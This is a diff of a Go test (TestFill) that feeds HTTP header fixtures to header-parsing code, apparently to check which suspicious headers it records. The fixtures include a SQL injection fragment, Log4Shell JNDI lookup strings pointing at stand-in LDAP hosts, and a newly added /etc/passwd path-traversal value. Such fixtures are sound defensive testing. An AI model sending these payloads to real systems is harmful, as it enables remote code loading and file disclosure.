@@ -141,12 +141,13 @@ func TestFill(t *testing.T) {
 				"user-agent", "Mozilla/5.0", "Referer", "https://a.example/", "Accept", "text/html;q=0.9",
 				"Authorization", "Bearer secret' or 1=1", "X-Api-Version", "${jndi:ldap://x/a}",
 				"X-Forwarded-For", "1.2.3.4", "Accept-Language", "${jndi:ldap://y/b}", "Sec-Ch-Ua", `"Chromium";v="128"`,
-				"If-None-Match", `W/"abc"`, "X-Empty", "",
+				"If-None-Match", `W/"abc"`, "X-Empty", "", "Accept-Encoding", "gzip, deflate, br",
+				"Accept-Charset", "../../../../etc/passwd", "Accept", "*/*;q=0.8, image/webp",
 			}, ""),
 			want: []string{
 				"header User-Agent=Mozilla/5.0", "header Referer=https://a.example/",
 				"header X-Api-Version=${jndi:ldap://x/a}", "header X-Forwarded-For=1.2.3.4",
-				"header Accept-Language=${jndi:ldap://y/b}",
+				"header Accept-Language=${jndi:ldap://y/b}", "header Accept-Charset=../../../../etc/passwd",
 			},
 		},
 		{
